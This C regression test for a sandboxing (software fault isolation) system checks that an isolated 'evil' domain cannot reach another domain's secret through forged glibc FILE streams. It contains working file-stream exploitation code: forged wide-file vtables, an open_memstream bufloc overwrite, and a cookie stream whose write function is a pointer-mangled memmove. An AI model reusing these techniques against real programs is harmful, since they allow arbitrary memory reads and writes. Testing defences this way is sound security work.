// glibc checks only that a stream's vtable is one of its own, and keeps
// some kinds' state right after the FILE. `evil` forges FILEs in memory it
// may write (attack rounds'): with the wide file vtable and byte
// orientation, so the loader's FILE check skipped the wide state, and a
// `_wide_data` whose buffers are vault's secret, fgetc read the secret 4
// bytes at a time (`wide-read`) and fwrite copied wide characters over it
// (`wide-write`); with open_memstream's vtable, fflush stored the buffer's
// address where the stream's `bufloc` said, over the secret (`memstream`;
// over the rights matrix it gave evil every right); with the cookie
// vtable and libc's memmove, mangled with the pointer guard, as the write
// function, fflush ran memmove(secret, ...) (`cookie`). Under `sfi` a
// stream's vtable must be one libc gives the byte streams it makes for
// domains (learnt at start; open_memstream is not among them: domains
// cannot call it), the stream must not be wide, and a cookie stream must
// be one libc made through the loader's interceptors, its cookie and
// functions unchanged (loader/sfi_streams.c): each call faults,
// DIPC_EFAULT (14). Control: under `none` each forged stream reads or
// writes the secret.
// RUN: %clang -O2 -c %S/Inputs/stream-kinds.c -o %t.kinds.o
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s %t.kinds.o -o %t -ldl -lpthread
// RUN: for m in wide-read wide-write memstream cookie; do %dipc-bin-dir/dipc-run --backend=sfi %t $m 2>&1; done | FileCheck %s --check-prefix=STOPPED
// RUN: %dipc-bin-dir/dipc-run --backend=none %t wide-read 2>&1 | FileCheck %s --check-prefix=STOLEN
// RUN: for m in wide-write memstream cookie; do %dipc-bin-dir/dipc-run --backend=none %t $m 2>&1; done | FileCheck %s --check-prefix=CHANGED
// STOPPED: attacking (wide-read)
// STOPPED: attack returned 0, dipc_errno 14
// STOPPED-NEXT: nothing stolen
// STOPPED-NEXT: vault's secret unchanged
// STOPPED: attacking (wide-write)
// STOPPED: attack returned 0, dipc_errno 14
// STOPPED-NEXT: nothing stolen
// STOPPED-NEXT: vault's secret unchanged
// STOPPED: attacking (memstream)
// STOPPED: attack returned 0, dipc_errno 14
// STOPPED-NEXT: nothing stolen
// STOPPED-NEXT: vault's secret unchanged
// STOPPED: attacking (cookie)
// STOPPED: attack returned 0, dipc_errno 14
// STOPPED-NEXT: nothing stolen
// STOPPED-NEXT: vault's secret unchanged
// STOLEN: stole 'vault-secret-42'
// CHANGED-COUNT-3: vault's secret changed
#include "Inputs/vault-sum.h"

#include "Inputs/pointer-guard.h"

#include <wchar.h>

// glibc 2.36's struct _IO_wide_data: its buffer pointers first.
struct wide_data {
  wchar_t *read_ptr, *read_end, *read_base, *write_base, *write_ptr,
      *write_end, *buf_base, *buf_end, *save_base, *backup_base, *save_end;
  char rest[512];
};

static struct {
  FILE file;
  const void *vtable; // struct _IO_FILE_plus
} forged __dom("evil");
static struct wide_data wide_state __dom("evil");

// Inputs/stream-kinds.c, a plain unit.
const void *memstream_vtable(void);
const void *cookie_vtable(void);
void *libc_memmove(void);

static union {
  char bytes[512];
  void *align;
} other; // a FILE_plus and the words libc keeps after it
static char pending[64] = "PWNED-by-evil";

#define VTABLE(f) (*(const void **)((char *)(f) + sizeof(FILE)))
#define AFTER(f) ((void **)((char *)(f) + sizeof(FILE) + sizeof(void *)))

static long wide(const char *mode, const volatile char *secret, char *loot) {
  memset(&forged, 0, sizeof forged);
  memset(&wide_state, 0, sizeof wide_state);
  forged.file._flags = (int)(0xfbad0000u | 0x8000); // _IO_USER_LOCK
  forged.file._wide_data = (void *)&wide_state;
  forged.vtable = dlsym(RTLD_DEFAULT, "_IO_wfile_jumps");
  if (!strcmp(mode, "wide-read")) {
    wide_state.read_ptr = wide_state.read_base = (wchar_t *)secret;
    wide_state.read_end = (wchar_t *)(secret + 32);
    for (int i = 0; i < 8; ++i) {
      forged.file._mode = 0;
      int c = fgetc(&forged.file);
      memcpy(loot + 4 * i, &c, 4);
    }
    loot[31] = 0;
    return 1;
  }
  wide_state.write_base = wide_state.write_ptr = (wchar_t *)secret;
  wide_state.write_end = (wchar_t *)(secret + 16);
  const wchar_t junk[4] = {'P', 'W', 'N', 0};
  return (long)fwrite(junk, 1, 3, &forged.file);
}

// A byte stream with pending output, of the kind vtable.
static FILE *pending_stream(const void *vtable) {
  FILE *f = (FILE *)other.bytes;
  memset(&other, 0, sizeof other);
  f->_flags = (int)(0xfbad0000u | 0x8000 | 0x8); // user lock, no reads
  f->_IO_buf_base = f->_IO_write_base = pending;
  f->_IO_buf_end = f->_IO_write_end = pending + sizeof pending;
  f->_IO_write_ptr = pending + 14;
  f->_IO_read_base = f->_IO_read_ptr = f->_IO_read_end = pending;
  f->_mode = -1;
  f->_fileno = -1;
  VTABLE(f) = vtable;
  return f;
}

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)aux, (void)key;
  if (!strncmp(mode, "wide-", 5))
    return wide(mode, secret, loot);
  if (!strcmp(mode, "memstream")) {
    static size_t size;
    FILE *f = pending_stream(memstream_vtable());
    AFTER(f)[2] = (void *)secret; // bufloc
    AFTER(f)[3] = &size;          // sizeloc
    return fflush(f);
  }
  FILE *f = pending_stream(cookie_vtable());
  AFTER(f)[0] = (void *)secret; // the cookie
  AFTER(f)[2] = (void *)glibc_mangle((uintptr_t)libc_memmove()); // io.write
  return fflush(f);
}

int main(int argc, char **argv) {
  return run_write_attack(argc > 1 ? argv[1] : "wide-read", NULL);
}
